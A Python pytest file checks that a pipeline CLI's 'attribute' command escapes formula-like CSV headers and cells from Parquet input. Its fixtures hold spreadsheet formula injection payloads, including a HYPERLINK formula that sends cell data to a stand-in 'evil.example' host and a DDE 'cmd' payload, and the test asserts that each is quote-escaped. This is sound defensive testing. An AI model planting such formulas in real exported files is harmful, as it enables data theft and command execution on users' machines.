"""Issue 14, item 6 beyond tag-titles: every CSV ``hiring-signals`` writes escapes formula-like
text cells and headers whatever the input column type (here ``attribute`` with Parquet input)."""

from __future__ import annotations

import csv

import polars as pl

from pipelines.cli import main


def test_attribute_csv_escapes_categorical_cells_and_headers(tmp_path):
    src = tmp_path / "in.parquet"
    pl.DataFrame(
        {
            "text": ["Acme Robotics said it would cut 120 jobs.", "Nothing happened today."],
            '=HYPERLINK("https://evil.example")': ["a", "b"],
            "note": pl.Series(['=HYPERLINK("https://evil.example/?"&A1)', "+cmd|' /C calc'!A0"], dtype=pl.Categorical),
            "label": pl.Series(["@SUM(1)", "ok"], dtype=pl.Enum(["@SUM(1)", "ok"])),
        }
    ).write_parquet(src)
    dst = tmp_path / "out.csv"
    assert main(["attribute", str(src), "-o", str(dst)]) == 0
    rows = list(csv.reader(dst.open(encoding="utf-8")))
    header, body = rows[0], rows[1:]
    assert '\'=HYPERLINK("https://evil.example")' in header
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in header)
    cells = [c for row in body for c in row]
    assert '\'=HYPERLINK("https://evil.example/?"&A1)' in cells and "'+cmd|' /C calc'!A0" in cells
    assert "'@SUM(1)" in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
